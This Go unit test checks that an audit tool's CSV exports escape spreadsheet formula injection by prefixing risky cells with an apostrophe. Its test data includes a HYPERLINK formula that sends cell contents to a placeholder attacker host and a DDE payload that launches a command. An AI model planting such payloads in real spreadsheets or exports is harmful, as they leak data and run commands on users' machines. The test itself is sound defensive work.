package audit

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// A pull-request title or an access id that a spreadsheet would run as a
// formula is written with a leading apostrophe in population.csv and
// sample.csv; nothing else about the value changes.
func TestCSVCellsNeutraliseFormulas(t *testing.T) {
	from, to := period()
	ms := changes(3)
	titles := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+plain"}
	for i := range ms {
		ms[i].Columns[4].Value = titles[i] // title
	}
	ms = append(ms, Member{Subject: "=access-id", OccurredAt: t0, Columns: append([]Column(nil), ms[0].Columns...)})
	dir, _ := export(t, &fakeSource{members: ms}, Request{From: from, To: to, Size: 10, Seed: "s"})
	for _, file := range []string{"population.csv", "sample.csv"} {
		rows, err := csv.NewReader(bytes.NewReader(readFile(t, dir, file))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var cells []string
		for _, r := range rows[1:] {
			cells = append(cells, r...)
		}
		for _, c := range cells {
			if strings.ContainsAny(c[:min(1, len(c))], "=+-@\t\r") {
				t.Errorf("%s: cell %q starts with a formula character", file, c)
			}
		}
		all := strings.Join(cells, "\n")
		for _, want := range append(titles, "=access-id") {
			if !strings.Contains(all, "'"+want) {
				t.Errorf("%s: %q not written as '%s", file, want, want)
			}
		}
	}
}
